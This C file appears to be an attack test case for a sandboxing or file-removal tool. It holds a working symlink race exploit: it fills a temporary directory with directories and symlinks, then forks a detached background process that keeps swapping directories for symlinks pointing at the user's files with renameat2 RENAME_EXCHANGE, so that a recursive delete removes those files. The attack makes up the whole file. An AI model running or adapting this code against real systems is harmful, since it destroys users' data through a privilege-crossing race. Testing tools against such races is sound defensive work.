/* A process that a tool leaves running exchanges directories of the private temporary directory
   with symlinks to the user's files while accessc removes it. The policy has no supervisor. */
#include "attack.h"

int main(void) {
  char dir[PATH_MAX], sym[PATH_MAX], file[PATH_MAX], victim[PATH_MAX] = "", *tmp = getenv("TMPDIR");
  read(open("victim", O_RDONLY), victim, sizeof victim - 1);
  for (int i = 0; i < 100; i++) {
    snprintf(dir, sizeof dir, "%s/d%d", tmp, i);
    snprintf(sym, sizeof sym, "%s/l%d", tmp, i);
    mkdir(dir, 0755);
    symlink(victim, sym);
    for (int j = 0; j < 20; j++) {
      snprintf(file, sizeof file, "%s/f%d", dir, j);
      put(file, "fine");
    }
  }
  if (fine(file)) good("files to remove");
  if (fork()) return 0;
  setsid();
  close(0); close(1); close(2);
  for (long n = ROUNDS(60); n > 0; n--)
    for (int i = 0; i < 100; i++) {
      snprintf(dir, sizeof dir, "%s/d%d", tmp, i);
      snprintf(sym, sizeof sym, "%s/l%d", tmp, i);
      renameat2(AT_FDCWD, dir, AT_FDCWD, sym, RENAME_EXCHANGE);
      mkdir(tmp, 0700);
      symlink(victim, sym);
    }
}
